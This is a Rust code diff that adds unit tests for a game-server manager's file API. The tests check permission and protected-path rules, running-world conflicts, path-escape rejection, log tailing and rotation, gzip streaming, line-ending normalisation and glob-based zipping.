+        assert!(new_mtime > old_mtime);
+        assert_eq!(std::fs::read_to_string(&path).unwrap(), "keep me");
+    }
+
+    #[tokio::test]
+    async fn test_move_directory_checks_protected_files() {
+        use crate::auth::{permission::UserPermission, user::User};
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir_all(root.join("plugins/Essentials")).unwrap();
+        std::fs::write(root.join("plugins/Essentials/config.yml"), "").unwrap();
+        std::fs::create_dir_all(root.join("world/region")).unwrap();
+        std::fs::write(root.join("world/region/r.0.0.mca"), "").unwrap();
+        std::fs::write(root.join("world/level.dat"), "").unwrap();
+
+        let mut permissions = UserPermission::new();
+        permissions
+            .can_write_instance_file
+            .insert(InstanceUuid::from("INSTANCE_survival".to_string()));
+        let user = User::new("alice".to_string(), "password", false, false, permissions);
+        let protected = ProtectedPaths::default();
+
+        // the destination is judged as a directory, though it doesn't exist yet
+        check_move_writable(
+            &user,
+            &protected,
+            &root.join("world"),
+            &root.join("backups/world"),
+        )
+        .await
+        .unwrap();
+
+        std::fs::write(root.join("plugins/EssentialsX.jar"), "").unwrap();
+        let err = check_move_writable(
+            &user,
+            &protected,
+            &root.join("plugins"),
+            &root.join("disabled-plugins"),
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+        let err = check_move_writable(&user, &protected, &root.join("world"), &root.join("mods"))
+            .await
+            .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+
+        let mut permissions = UserPermission::new();
+        permissions.can_write_global_file = true;
+        let admin = User::new("bob".to_string(), "password", false, false, permissions);
+        check_move_writable(
+            &admin,
+            &protected,
+            &root.join("plugins"),
+            &root.join("disabled-plugins"),
+        )
+        .await
+        .unwrap();
+
+        let world = root.join("world");
+        let err = check_move_paths(root, &world, &world.join("region/world")).unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_move_directory_handler_checks_protected_files() {
+        use crate::auth::permission::UserPermission;
+        use crate::events::EventInner;
+        use crate::test_util::{add_test_user, restore_with_fake_java, test_app_state};
+
+        let temp = tempfile::tempdir().unwrap();
+        let instance = restore_with_fake_java(temp.path(), None).await;
+        let uuid = instance.uuid().await;
+        let root = instance.path().await;
+        std::fs::create_dir_all(root.join("plugins")).unwrap();
+        std::fs::write(root.join("plugins/EssentialsX.jar"), "").unwrap();
+        std::fs::create_dir_all(root.join("world/region")).unwrap();
+        std::fs::write(root.join("world/region/r.0.0.mca"), "").unwrap();
+
+        let state = test_app_state(temp.path(), vec![instance.clone().into()]).await;
+        let mut permissions = UserPermission::new();
+        permissions.can_write_instance_file.insert(uuid.clone());
+        let token = add_test_user(&state, "alice", permissions).await;
+        let mut events = state.event_broadcaster.subscribe();
+        let move_dir = |source: &str, dest: &str| {
+            move_instance_file(
+                axum::extract::State(state.clone()),
+                Path((uuid.clone(), String::new(), String::new())),
+                Query(RelativePathQuery {
+                    path: Some(source.to_string()),
+                    dest: Some(dest.to_string()),
+                }),
+                Query(OpenWorldQuery::default()),
+                AuthBearer(token.clone()),
+            )
+        };
+
+        let err = move_dir("plugins", "disabled-plugins").await.unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+        assert!(root.join("plugins/EssentialsX.jar").exists());
+        assert!(!root.join("disabled-plugins").exists());
+
+        move_dir("world", "world_old").await.unwrap();
+        assert!(root.join("world_old/region/r.0.0.mca").exists());
+        let fs_event = loop {
+            if let EventInner::FSEvent(fs_event) = events.try_recv().unwrap().event_inner {
+                break fs_event;
+            }
+        };
+        assert_eq!(fs_event.target, FSTarget::Directory(root.join("world_old")));
+    }
+
+    #[test]
+    fn test_move_and_copy_onto_root_rejected() {
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir_all(root.join("world")).unwrap();
+        let world = scoped_join_win_safe(root, "world").unwrap();
+        // every way of naming the root resolves to the root itself
+        for relative in [".", "..", "world/.."] {
+            let path = scoped_join_win_safe(root, relative).unwrap();
+            assert_eq!(path, root);
+
+            let err = check_move_paths(root, &path, &root.join("backup")).unwrap_err();
+            assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+            let err = check_move_paths(root, &world, &path).unwrap_err();
+            assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+            let err = check_copy_paths(root, &[world.clone(), path.clone()], &root.join("backup"))
+                .unwrap_err();
+            assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+        }
+
+        assert!(check_move_paths(root, &world, &root.join("world_old")).is_ok());
+        assert!(check_move_paths(root, &world, &world.join("nested")).is_err());
+        // copying into the root directory itself is fine
+        assert!(check_copy_paths(root, &[world.clone()], root).is_ok());
+        assert!(check_copy_paths(root, &[world.clone()], &world.join("nested")).is_err());
+        assert!(ensure_not_instance_root(root, &world, "delete").is_ok());
+    }
+
+    #[test]
+    fn test_is_path_protected_for_user() {
+        use crate::auth::{permission::UserPermission, user::User};
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir_all(root.join("mods")).unwrap();
+        std::fs::create_dir_all(root.join("config")).unwrap();
+        std::fs::write(root.join("server.jar"), "").unwrap();
+        std::fs::write(root.join("server.properties"), "").unwrap();
+
+        let mut permissions = UserPermission::new();
+        permissions
+            .can_write_instance_file
+            .insert(InstanceUuid::from("INSTANCE_survival".to_string()));
+        let user = User::new("alice".to_string(), "password", false, false, permissions);
+        let protected = ProtectedPaths::default();
+        // a protected extension
+        assert!(is_path_protected_for(
+            &user,
+            &protected,
+            root.join("server.jar")
+        ));
+        assert!(is_path_protected_for(
+            &user,
+            &protected,
+            root.join("start.sh")
+        ));
+        assert!(!is_path_protected_for(
+            &user,
+            &protected,
+            root.join("server.properties")
+        ));
+        // a protected directory
+        assert!(is_path_protected_for(&user, &protected, root.join("mods")));
+        assert!(!is_path_protected_for(
+            &user,
+            &protected,
+            root.join("config")
+        ));
+
+        // a Terraria server protects its saves instead
+        let protected = ProtectedPaths {
+            extensions: vec!["plr".to_string(), "wld".to_string()],
+            dir_names: Vec::new(),
+        };
+        assert!(!is_path_protected_for(
+            &user,
+            &protected,
+            root.join("server.jar")
+        ));
+        assert!(!is_path_protected_for(&user, &protected, root.join("mods")));
+        assert!(is_path_protected_for(
+            &user,
+            &protected,
+            root.join("Steve.plr")
+        ));
+        // nor can the list, or any other setting of the instance, be rewritten by hand
+        for sidecar in [
+            crate::protected_paths::PROTECTED_PATHS_FILE_NAME,
+            ".lodestone_writable_paths.json",
+            ".lodestone_annotations.json",
+            ".lodestone_minecraft_config.json",
+            ".lodestone_config",
+        ] {
+            assert!(is_path_protected_for(&user, &protected, root.join(sidecar)));
+        }
+
+        let mut permissions = UserPermission::new();
+        permissions.can_write_global_file = true;
+        let user = User::new("bob".to_string(), "password", false, false, permissions);
+        assert!(!is_path_protected_for(
+            &user,
+            &protected,
+            root.join("server.jar")
+        ));
+        assert!(!is_path_protected_for(&user, &protected, root.join("mods")));
+    }
+
+    #[tokio::test]
+    async fn test_writes_outside_of_writable_paths_are_denied() {
+        use crate::auth::{permission::UserPermission, user::User};
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        write_writable_paths(
+            root,
+            &WritablePaths {
+                allowed: vec![PathBuf::from("plugins")],
             },
+        )
+        .await
+        .unwrap();
+
+        let mut permissions = UserPermission::new();
+        permissions
+            .can_write_instance_file
+            .insert(InstanceUuid::from("INSTANCE_survival".to_string()));
+        let user = User::new("alice".to_string(), "password", false, false, permissions);
+        check_in_writable_paths(&user, root, [root.join("plugins/config.yml").as_path()])
+            .await
+            .unwrap();
+        let err = check_in_writable_paths(&user, root, [root.join("server.properties").as_path()])
+            .await
+            .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+        // moving a plugin's config out of the subtree
+        let err = check_in_writable_paths(
+            &user,
+            root,
+            [
+                root.join("plugins/config.yml").as_path(),
+                root.join("config.yml").as_path(),
+            ],
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+
+        let mut permissions = UserPermission::new();
+        permissions.can_write_global_file = true;
+        let user = User::new("bob".to_string(), "password", false, false, permissions);
+        check_in_writable_paths(&user, root, [root.join("server.properties").as_path()])
+            .await
+            .unwrap();
+        // the console log isn't writable with any permission, e.g. as a copy or move destination
+        let err = check_in_writable_paths(
+            &user,
+            root,
+            [root.join(crate::console_log::CONSOLE_LOG_DIR).as_path()],
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::PermissionDenied));
+    }
+
+    #[tokio::test]
+    async fn test_deleting_running_world_is_refused() {
+        use crate::auth::{permission::UserPermission, user::User};
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::write(
+            root.join("server.properties"),
+            "level-name=worlds/survival\n",
+        )
+        .unwrap();
+        std::fs::create_dir_all(root.join("worlds/survival/region")).unwrap();
+        std::fs::create_dir_all(root.join("worlds/survival_nether")).unwrap();
+        std::fs::create_dir_all(root.join("worlds/creative")).unwrap();
+        std::fs::create_dir_all(root.join("plugins")).unwrap();
+        let world = root.join("worlds/survival");
+
+        let mut permissions = UserPermission::new();
+        permissions
+            .can_write_instance_file
+            .insert(InstanceUuid::from("INSTANCE_survival".to_string()));
+        let user = User::new("alice".to_string(), "password", false, false, permissions);
+        let mut permissions = UserPermission::new();
+        permissions.can_write_global_file = true;
+        let admin = User::new("bob".to_string(), "password", false, false, permissions);
+
+        let open_worlds = open_world_dirs(State::Running, root).await;
+        // the world, a directory inside it, and one holding it
+        for path in [
+            world.as_path(),
+            root.join("worlds/survival/region").as_path(),
+            root.join("worlds/survival_nether").as_path(),
+            root.join("worlds").as_path(),
+        ] {
+            let err =
+                check_world_not_open(&user, &open_worlds, [path], false, "deleting").unwrap_err();
+            assert!(matches!(err.kind, ErrorKind::Conflict));
+            assert!(err.source.to_string().contains("deleting"));
+            assert!(check_world_not_open(&user, &open_worlds, [path], true, "deleting").is_err());
+            assert!(check_world_not_open(&admin, &open_worlds, [path], false, "deleting").is_err());
+            assert!(check_world_not_open(&admin, &open_worlds, [path], true, "deleting").is_ok());
+        }
+        for path in [
+            root.join("worlds/creative").as_path(),
+            root.join("plugins").as_path(),
+        ] {
+            assert!(check_world_not_open(&user, &open_worlds, [path], false, "deleting").is_ok());
+        }
+
+        let open_worlds = open_world_dirs(State::Stopped, root).await;
+        assert!(
+            check_world_not_open(&user, &open_worlds, [world.as_path()], false, "deleting").is_ok()
         );
-        event_broadcaster.send(progression_start_event);
+        std::fs::remove_dir_all(&world).unwrap();
+        assert!(!world.exists());
+    }
 
-        if let Err(e) =
-            zip_files_async(&target_relative_paths, destination_relative_path, false).await
-        {
-            event_broadcaster.send(Event::new_progression_event_end(
-                event_id,
-                false,
-                Some(&format!("Zipping failed: {e}")),
-                Some(ProgressionEndValue::FSOperationCompleted {
-                    instance_uuid: uuid,
-                    success: false,
-                    message: format!("Zipping {aggregate_name} failed : {e}"),
-                }),
-            ));
-        } else {
-            event_broadcaster.send(Event::new_progression_event_end(
-                event_id,
-                true,
-                Some("Zip complete"),
-                Some(ProgressionEndValue::FSOperationCompleted {
-                    instance_uuid: uuid,
-                    success: true,
-                    message: format!("Zipped {aggregate_name}"),
-                }),
-            ));
+    #[tokio::test]
+    async fn test_writes_into_running_world_are_refused() {
+        use crate::auth::{permission::UserPermission, user::User};
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::write(
+            root.join("server.properties"),
+            "level-name=survival\nserver-port=25565\n",
+        )
+        .unwrap();
+        std::fs::create_dir_all(root.join("survival/region")).unwrap();
+        std::fs::create_dir_all(root.join("survival_nether")).unwrap();
+        let level_dat = root.join("survival/level.dat");
+        let region = root.join("survival/region/r.0.0.mca");
+        let properties = root.join("server.properties");
+
+        let mut permissions = UserPermission::new();
+        permissions
+            .can_write_instance_file
+            .insert(InstanceUuid::from("INSTANCE_survival".to_string()));
+        let user = User::new("alice".to_string(), "password", false, false, permissions);
+
+        let open_worlds = open_world_dirs(State::Running, root).await;
+        for path in [
+            level_dat.as_path(),
+            region.as_path(),
+            root.join("survival").as_path(),
+            root.join("survival_nether/DIM-1").as_path(),
+        ] {
+            let err =
+                check_world_not_open(&user, &open_worlds, [path], false, "writing to").unwrap_err();
+            assert!(matches!(err.kind, ErrorKind::Conflict));
         }
-    });
+        // moving a file into the world is refused as well
+        let err = check_world_not_open(
+            &user,
+            &open_worlds,
+            [properties.as_path(), level_dat.as_path()],
+            false,
+            "writing to",
+        )
+        .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::Conflict));
+        assert!(check_world_not_open(
+            &user,
+            &open_worlds,
+            [properties.as_path()],
+            false,
+            "writing to"
+        )
+        .is_ok());
+        // so is replacing a directory holding the world, adding entries next to it is not
+        let err =
+            check_world_not_open(&user, &open_worlds, [root], false, "writing to").unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::Conflict));
+        assert!(check_dir_not_in_open_world(&user, &open_worlds, root, false).is_ok());
+        assert!(check_dir_not_in_open_world(
+            &user,
+            &open_worlds,
+            &root.join("survival/region"),
+            false
+        )
+        .is_err());
+        assert!(check_world_not_open(
+            &user,
+            &open_worlds,
+            [root.join("survival_old").as_path()],
+            false,
+            "writing to"
+        )
+        .is_ok());
+        // forcing needs the global file permission
+        assert!(check_world_not_open(
+            &user,
+            &open_worlds,
+            [level_dat.as_path()],
+            true,
+            "writing to"
+        )
+        .is_err());
+        let mut permissions = UserPermission::new();
+        permissions.can_write_global_file = true;
+        let admin = User::new("bob".to_string(), "password", false, false, permissions);
+        assert!(check_world_not_open(
+            &admin,
+            &open_worlds,
+            [level_dat.as_path()],
+            false,
+            "writing to"
+        )
+        .is_err());
+        assert!(check_world_not_open(
+            &admin,
+            &open_worlds,
+            [level_dat.as_path()],
+            true,
+            "writing to"
+        )
+        .is_ok());
 
-    // remove root from path
+        // allowed once the server is stopped
+        let open_worlds = open_world_dirs(State::Stopped, root).await;
+        assert!(open_worlds.is_empty());
+        assert!(check_world_not_open(
+            &user,
+            &open_worlds,
+            [level_dat.as_path()],
+            false,
+            "writing to"
+        )
+        .is_ok());
 
-    Ok(Json(()))
-}
+        // the default world when level-name isn't set
+        std::fs::write(&properties, "server-port=25565\n").unwrap();
+        let open_worlds = open_world_dirs(State::Starting, root).await;
+        assert!(open_worlds.contains(&root.join("world")));
+    }
 
-pub fn get_instance_fs_routes(state: AppState) -> Router {
-    Router::new()
-        .route(
-            "/instance/:uuid/fs/:base64_relative_path/ls",
-            get(list_instance_files),
+    #[tokio::test]
+    async fn test_create_new_file_never_overwrites() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("ops.json");
+
+        create_new_file(&path, b"[\"alice\"]").await.unwrap();
+        assert_eq!(std::fs::read_to_string(&path).unwrap(), "[\"alice\"]");
+
+        let err = create_new_file(&path, b"[]").await.unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::Conflict));
+        assert_eq!(std::fs::read_to_string(&path).unwrap(), "[\"alice\"]");
+
+        // without content the file is created empty
+        let empty = temp.path().join("whitelist.json");
+        create_new_file(&empty, b"").await.unwrap();
+        assert_eq!(std::fs::metadata(&empty).unwrap().len(), 0);
+        assert!(matches!(
+            create_new_file(&empty, b"").await.unwrap_err().kind,
+            ErrorKind::Conflict
+        ));
+    }
+
+    #[tokio::test]
+    async fn test_head_reads_first_lines() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("usercache.json");
+        let content: String = (0..1000).map(|i| format!("line {i}\r\n")).collect();
+        std::fs::write(&path, &content).unwrap();
+
+        let head = read_head(&path, 3, HEAD_MAX_BYTES).await.unwrap();
+        assert_eq!(head.lines, vec!["line 0", "line 1", "line 2"]);
+        assert!(head.truncated);
+        assert!(!head.lossy);
+
+        // cut by the byte limit in the middle of a line
+        let head = read_head(&path, 3, 11).await.unwrap();
+        assert_eq!(head.lines, vec!["line 0", "lin"]);
+        assert!(head.truncated);
+    }
+
+    #[tokio::test]
+    async fn test_large_file_is_streamed_from_disk() {
+        async fn collect(path: &std::path::Path) -> (usize, Vec<u8>) {
+            let chunks: Vec<Bytes> = open_read_stream(path)
+                .await
+                .unwrap()
+                .map(|chunk| chunk.unwrap())
+                .collect()
+                .await;
+            (chunks.len(), chunks.concat())
+        }
+
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("latest.log");
+        let content: String = (0..200_000)
+            .map(|i| format!("[12:00:00] [Server thread/INFO]: tick {i}\n"))
+            .collect();
+        std::fs::write(&path, &content).unwrap();
+        let (chunk_count, streamed) = collect(&path).await;
+        assert!(chunk_count > 1);
+        assert_eq!(streamed, content.as_bytes());
+
+        let gzipped = temp.path().join("2023-01-01-1.log.gz");
+        std::fs::write(&gzipped, gzip(Bytes::from(content.clone())).await.unwrap()).unwrap();
+        let (_, streamed) = collect(&gzipped).await;
+        assert_eq!(streamed, content.as_bytes());
+
+        let Err(err) = open_read_stream(temp.path()).await else {
+            panic!("a directory was streamed");
+        };
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+    }
+
+    #[tokio::test]
+    async fn test_compressed_write_reads_back_decompressed() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = gzipped_path(&temp.path().join("report.txt"));
+        assert_eq!(path, temp.path().join("report.txt.gz"));
+        assert_eq!(gzipped_path(&path), path);
+        let content: String = (0..10_000)
+            .map(|i| format!("[12:00:00] player{i} joined the game\n"))
+            .collect();
+
+        let compressed = gzip(Bytes::from(content.clone())).await.unwrap();
+        let response = write_file_and_report(&path, &compressed).await.unwrap();
+        assert!(response.file_size < content.len() as u64 / 10);
+        let mut decoded = String::new();
+        flate2::read::GzDecoder::new(std::fs::File::open(&path).unwrap())
+            .read_to_string(&mut decoded)
+            .unwrap();
+        assert_eq!(decoded, content);
+
+        assert_eq!(read_gzipped(&path, None).await.unwrap(), content.as_bytes());
+        assert_eq!(
+            read_gzipped_capped(&path, content.len() as u64)
+                .await
+                .unwrap(),
+            content.as_bytes()
+        );
+        let err = read_gzipped_capped(&path, content.len() as u64 - 1)
+            .await
+            .unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+        let head = read_head(&path, 2, HEAD_MAX_BYTES).await.unwrap();
+        assert_eq!(
+            head.lines,
+            vec![
+                "[12:00:00] player0 joined the game",
+                "[12:00:00] player1 joined the game"
+            ]
+        );
+        assert!(head.truncated);
+        let head = read_head(&path, 2, 10).await.unwrap();
+        assert_eq!(head.lines, vec!["[12:00:00]"]);
+        assert!(head.truncated);
+
+        let downloaded = temp.path().join("report.txt");
+        gunzip_file(&path, &downloaded).await.unwrap();
+        assert_eq!(std::fs::read_to_string(&downloaded).unwrap(), content);
+
+        // protected by the extension under the .gz
+        let protected = ProtectedPaths::default();
+        assert!(is_path_protected(
+            &protected,
+            temp.path().join("start.sh.gz")
+        ));
+        assert!(!is_path_protected(
+            &protected,
+            temp.path().join("server.gz")
+        ));
+        assert_eq!(
+            underlying_extension(&temp.path().join("server.gz")),
+            Some(std::ffi::OsStr::new("gz"))
+        );
+        // downloads are decompressed unless asked for as stored
+        let query: DownloadQuery = serde_json::from_str("{}").unwrap();
+        assert!(query.decompress);
+        assert!(!is_path_protected(&protected, &path));
+        assert!(!is_path_protected(
+            &protected,
+            temp.path().join("latest.log.gz")
+        ));
+    }
+
+    #[tokio::test]
+    async fn test_head_of_short_file() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("motd.txt");
+        std::fs::write(&path, b"Welcome\nto \xffthe server").unwrap();
+
+        let head = read_head(&path, 10, HEAD_MAX_BYTES).await.unwrap();
+        assert_eq!(head.lines, vec!["Welcome", "to \u{FFFD}the server"]);
+        assert!(!head.truncated);
+        assert!(head.lossy);
+
+        // exactly as many lines as asked for
+        let head = read_head(&path, 2, HEAD_MAX_BYTES).await.unwrap();
+        assert_eq!(head.lines.len(), 2);
+        assert!(!head.truncated);
+
+        std::fs::write(&path, "").unwrap();
+        let head = read_head(&path, 10, HEAD_MAX_BYTES).await.unwrap();
+        assert!(head.lines.is_empty());
+        assert!(!head.truncated);
+    }
+
+    #[tokio::test]
+    async fn test_tail_follows_appended_lines_across_rotations() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("latest.log");
+        let content: String = (0..5000)
+            .map(|i| format!("[12:00:00] [Server thread/INFO]: tick {i}\n"))
+            .collect();
+        std::fs::write(&path, &content).unwrap();
+
+        let (lines, len) = read_tail(&path, 2).await.unwrap();
+        assert_eq!(
+            lines,
+            vec![
+                "[12:00:00] [Server thread/INFO]: tick 4998",
+                "[12:00:00] [Server thread/INFO]: tick 4999"
+            ]
+        );
+        assert_eq!(len, content.len() as u64);
+        let gzipped = temp.path().join("2023-01-01-1.log.gz");
+        std::fs::write(&gzipped, gzip(Bytes::from(content.clone())).await.unwrap()).unwrap();
+        assert_eq!(read_tail(&gzipped, 2).await.unwrap().0, lines);
+        assert!(matches!(
+            read_tail(temp.path(), 2).await.unwrap_err().kind,
+            ErrorKind::BadRequest
+        ));
+        assert!(matches!(
+            read_tail(&temp.path().join("debug.log"), 2)
+                .await
+                .unwrap_err()
+                .kind,
+            ErrorKind::NotFound
+        ));
+
+        let append = |text: &str| {
+            use std::io::Write;
+            std::fs::OpenOptions::new()
+                .append(true)
+                .open(&path)
+                .unwrap()
+                .write_all(text.as_bytes())
+                .unwrap();
+        };
+        let mut followed = FollowedFile::new(path.clone(), len);
+        assert_eq!(
+            followed.read_appended().unwrap(),
+            FollowUpdate {
+                rotated: false,
+                lines: Vec::new()
+            }
+        );
+        // a line is sent once it is ended
+        append("[12:00:01] Steve joined");
+        assert!(followed.read_appended().unwrap().lines.is_empty());
+        append(" the game\r\n[12:00:02] Alex joined the game\n");
+        assert_eq!(
+            followed.read_appended().unwrap().lines,
+            vec![
+                "[12:00:01] Steve joined the game",
+                "[12:00:02] Alex joined the game"
+            ]
+        );
+
+        // truncated in place by a copy and truncate rotation
+        std::fs::write(&path, "[12:05:00] Starting minecraft server\n").unwrap();
+        assert_eq!(
+            followed.read_appended().unwrap(),
+            FollowUpdate {
+                rotated: true,
+                lines: vec!["[12:05:00] Starting minecraft server".to_string()]
+            }
+        );
+
+        // renamed away, then replaced by a longer new log, told apart by its inode
+        if !cfg!(unix) {
+            return;
+        }
+        std::fs::rename(&path, temp.path().join("2023-01-01-2.log")).unwrap();
+        assert!(!followed.read_appended().unwrap().rotated);
+        std::fs::write(
+            &path,
+            "[12:10:00] Done (3.2s)!\n[12:10:01] Steve joined the game\n",
         )
-        .route(
-            "/instance/:uuid/fs/:base64_relative_path/read",
-            get(read_instance_file),
+        .unwrap();
+        let update = followed.read_appended().unwrap();
+        assert!(update.rotated);
+        assert_eq!(update.lines.len(), 2);
+        assert!(followed.read_appended().unwrap().lines.is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_write_normalizes_line_endings() {
+        let temp = tempfile::tempdir().unwrap();
+        let path = temp.path().join("server.properties");
+        // edited on windows, then appended to from a unix shell
+        let mixed =
+            Bytes::from_static(b"motd=A\r\npvp=true\nlevel-name=world\r\n\rdifficulty=easy");
+
+        let response = write_file_and_report(
+            &path,
+            &normalize_line_endings(mixed.clone(), LineEndings::Lf),
         )
-        .route(
-            "/instance/:uuid/fs/:base64_relative_path/write",
-            put(write_instance_file),
+        .await
+        .unwrap();
+        assert_eq!(
+            std::fs::read(&path).unwrap(),
+            b"motd=A\npvp=true\nlevel-name=world\n\rdifficulty=easy"
+        );
+        assert_eq!(response.file_size, 49);
+
+        write_file_and_report(
+            &path,
+            &normalize_line_endings(mixed.clone(), LineEndings::Crlf),
         )
-        .route(
-            "/instance/:uuid/fs/:base64_relative_path/mkdir",
-            put(make_instance_directory),
+        .await
+        .unwrap();
+        assert_eq!(
+            std::fs::read(&path).unwrap(),
+            b"motd=A\r\npvp=true\r\nlevel-name=world\r\n\rdifficulty=easy"
+        );
+
+        write_file_and_report(
+            &path,
+            &normalize_line_endings(mixed.clone(), LineEndings::Preserve),
         )
-        .route("/instance/:uuid/fs/cpr", put(copy_instance_files))
-        .route(
-            "/instance/:uuid/fs/:base64_relative_path/move/:base64_relative_path_dest",
-            put(move_instance_file),
+        .await
+        .unwrap();
+        assert_eq!(std::fs::read(&path).unwrap(), mixed);
+
+        // not UTF-8, only the line breaks change
+        assert_eq!(
+            normalize_line_endings(Bytes::from_static(b"\xff\xfe\r\n"), LineEndings::Lf),
+            Bytes::from_static(b"\xff\xfe\n")
+        );
+        let query: LineEndingsQuery =
+            serde_json::from_str(r#"{ "line_endings": "crlf" }"#).unwrap();
+        assert_eq!(query.line_endings, LineEndings::Crlf);
+        let query: LineEndingsQuery = serde_json::from_str("{}").unwrap();
+        assert_eq!(query.line_endings, LineEndings::Preserve);
+    }
+
+    #[test]
+    fn test_zip_glob_selection() {
+        let temp_lodestone_path = tempfile::tempdir().unwrap();
+        init_paths(temp_lodestone_path.path().to_path_buf());
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir_all(root.join("config/sub")).unwrap();
+        std::fs::write(root.join("config/a.json"), "{}").unwrap();
+        std::fs::write(root.join("config/b.json"), "{}").unwrap();
+        std::fs::write(root.join("config/c.toml"), "").unwrap();
+        std::fs::write(root.join("config/sub/d.json"), "{}").unwrap();
+        std::fs::write(root.join("ops.json"), "[]").unwrap();
+
+        let targets = expand_source_paths(
+            root,
+            &[PathBuf::from("config/*.json"), PathBuf::from("ops.json")],
+            16,
         )
-        .route(
-            "/instance/:uuid/fs/:base64_relative_path/rm",
-            delete(remove_instance_file),
+        .unwrap();
+        let archive = root.join("configs.zip");
+        zip_files(&targets, &archive, false).unwrap();
+        let mut zip = zip::ZipArchive::new(std::fs::File::open(&archive).unwrap()).unwrap();
+        let mut names: Vec<String> = (0..zip.len())
+            .map(|i| zip.by_index(i).unwrap().name().to_string())
+            .collect();
+        names.sort();
+        assert_eq!(names, vec!["a.json", "b.json", "ops.json"]);
+
+        // `**` crosses directories, and a file matched twice is only listed once
+        let mut nested = expand_source_paths(
+            root,
+            &[
+                PathBuf::from("config/**/*.json"),
+                PathBuf::from("config/a.json"),
+            ],
+            16,
         )
-        .route(
-            "/instance/:uuid/fs/:base64_relative_path/rmdir",
-            delete(remove_instance_dir),
+        .unwrap();
+        nested.sort();
+        assert_eq!(
+            nested,
+            vec![
+                root.join("config/a.json"),
+                root.join("config/b.json"),
+                root.join("config/sub/d.json"),
+            ]
+        );
+
+        for escaping in ["../*.json", "config/../../*"] {
+            let err = expand_source_paths(root, &[PathBuf::from(escaping)], 16).unwrap_err();
+            assert!(matches!(err.kind, ErrorKind::BadRequest));
+        }
+        let err = expand_source_paths(root, &[PathBuf::from("config/*.yml")], 16).unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+        let err = expand_source_paths(root, &[PathBuf::from("config/*.json")], 1).unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::BadRequest));
+        assert_eq!(
+            expand_glob(root, std::path::Path::new("config/**"), 2)
+                .unwrap()
+                .len(),
+            2
+        );
+
+        // an existing path is never read as a pattern
+        std::fs::create_dir_all(root.join("world [old]")).unwrap();
+        std::fs::create_dir_all(root.join("world o")).unwrap();
+        assert_eq!(
+            expand_source_paths(root, &[PathBuf::from("world [old]")], 16).unwrap(),
+            vec![root.join("world [old]")]
+        );
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_stalled_reads_time_out() {
+        use axum::response::IntoResponse;
+        use std::time::{Duration, Instant};
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path().to_path_buf();
+        std::fs::write(root.join("server.properties"), "motd=hi\n").unwrap();
+        // a fifo nobody writes to blocks its readers, like a file on a stalled network mount
+        let stalled = root.join("latest.log");
+        assert!(std::process::Command::new("mkfifo")
+            .arg(&stalled)
+            .status()
+            .unwrap()
+            .success());
+        let timeout = Duration::from_millis(200);
+
+        let content = with_fs_timeout(timeout, read_instance_text(&root.join("server.properties")))
+            .await
+            .unwrap();
+        assert_eq!(content, "motd=hi\n");
+        let started = Instant::now();
+        let err = with_fs_timeout(timeout, read_instance_text(&stalled))
+            .await
+            .unwrap_err();
+        assert!(started.elapsed() < Duration::from_secs(5));
+        assert!(matches!(err.kind, ErrorKind::Timeout));
+        assert_eq!(
+            err.into_response().status(),
+            axum::http::StatusCode::REQUEST_TIMEOUT
+        );
+
+        let entries = with_fs_timeout(
+            timeout,
+            list_instance_dir(root.clone(), root.clone(), false),
         )
-        .route(
-            "/instance/:uuid/fs/:base64_relative_path/new",
-            put(new_instance_file),
+        .await
+        .unwrap();
+        assert_eq!(entries.len(), 2);
+        let slow_listing = async {
+            tokio::time::sleep(Duration::from_secs(60)).await;
+            list_instance_dir(root.clone(), root.clone(), false).await
+        };
+        let err = with_fs_timeout(timeout, slow_listing).await.unwrap_err();
+        assert!(matches!(err.kind, ErrorKind::Timeout));
+
+        // let the stuck read finish so the runtime can shut down
+        std::fs::write(&stalled, "").unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_console_log_is_hidden_and_kept() {
+        use crate::console_log::{ConsoleLog, ConsoleLogSettings, CONSOLE_LOG_DIR};
+
+        let temp = tempfile::tempdir().unwrap();
+        let root = temp.path().to_path_buf();
+        std::fs::write(root.join("server.properties"), "motd=hi\n").unwrap();
+        let console_log = ConsoleLog::new(
+            &root,
+            ConsoleLogSettings {
+                enabled: true,
+                ..Default::default()
+            },
+        );
+        console_log.append("[12:00:00] [Server thread/INFO]: Done");
+        console_log.close().await;
+
+        let entries = list_instance_dir(root.clone(), root.clone(), true)
